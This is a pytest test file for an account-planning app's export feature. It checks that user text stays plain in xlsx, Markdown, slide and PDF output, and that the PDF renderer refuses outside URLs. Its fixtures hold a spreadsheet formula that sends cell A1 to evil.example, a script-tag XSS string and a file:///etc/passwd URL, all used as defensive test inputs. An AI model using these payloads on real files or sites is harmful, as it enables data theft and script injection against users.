"""What people typed stays plain text in every format: a formula in a name is text in
the workbook, Markdown and HTML in a title are shown as written, and the PDF loads
nothing from outside."""

import io
from decimal import Decimal

import pytest

from keyplan.outputs.export import export_plan
from keyplan.plans import services
from tests.outputs.conftest import deck_texts, pdf_text

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
MARKUP = "*Urgent* <script>alert(1)</script> [win](http://evil.example) <img src=x>"


@pytest.fixture
def tricky(org, plan):
    org.mine.name = FORMULA
    org.mine.save()
    services.element_save(
        kind="idea",
        plan=plan,
        user=org.rep,
        title=MARKUP,
        annual_value=Decimal("10"),
        root_cause="@SUM(1+1)\nsecond line",
    )
    plan.account.refresh_from_db()
    return plan


def test_formula_in_a_cell_is_text(org, tricky):
    import openpyxl

    content = export_plan(plan=tricky, user=org.rep, fmt="xlsx").content
    book = openpyxl.load_workbook(io.BytesIO(content))
    account = book["at a glance"]["B2"]
    assert account.value == FORMULA and account.data_type == "s" and account.quotePrefix
    root = next(r[3] for r in book["ideas"].iter_rows(min_row=2) if r[0].value == MARKUP)
    assert root.value == "@SUM(1+1)\nsecond line" and root.data_type == "s" and root.quotePrefix
    formulas = [
        c.coordinate for s in book for row in s.iter_rows() for c in row if c.data_type == "f"
    ]
    assert formulas == []


def test_markdown_escapes_markup(org, tricky):
    text = export_plan(plan=tricky, user=org.rep, fmt="md").content.decode()
    assert "<script>" not in text and "<img" not in text and "[win](" not in text
    assert (
        r"\*Urgent\* &lt;script&gt;alert(1)&lt;/script&gt; "
        r"\[win\](http://evil.example) &lt;img src=x&gt;" in text
    )
    assert '# Account plan: =HYPERLINK("http://evil.example/?x="&amp;A1,"Click")' in text


def test_deck_and_pdf_show_it_as_written(org, tricky):
    slides = deck_texts(export_plan(plan=tricky, user=org.rep, fmt="pptx").content)
    assert any(MARKUP in s for s in slides)
    text = pdf_text(export_plan(plan=tricky, user=org.rep, fmt="pdf").content)
    assert "<script>alert(1)</script>" in " ".join(text.split())


def test_pdf_fetches_nothing_from_outside():
    from keyplan.outputs.pdf import _fetcher

    fetch = _fetcher()
    for url in (
        "http://evil.example/a.css",
        "https://evil.example/font.woff",
        "file:///etc/passwd",
    ):
        with pytest.raises(ValueError):
            fetch(url)
    assert fetch("data:text/plain,ok").read() == b"ok"


def test_control_characters_do_not_break_a_file(org, plan):
    """Control characters pasted from a word processor (a vertical tab, Word's line
    break; a start-of-heading) are refused by the xlsx and pptx XML: the exports drop
    them, a vertical tab becoming a line break, and keep the words."""
    from keyplan.plans.models import Idea

    Idea.objects.filter(plan=plan, title="Close automation").update(
        title="Close\x0bautomation\x01 phase\x1f two"
    )
    for fmt in ("md", "xlsx", "pptx", "pdf"):
        content = export_plan(plan=plan, user=org.rep, fmt=fmt).content
        assert len(content) > 500
    text = export_plan(plan=plan, user=org.rep, fmt="md").content.decode()
    assert "| Close automation phase two |" in text  # a table cell is one line
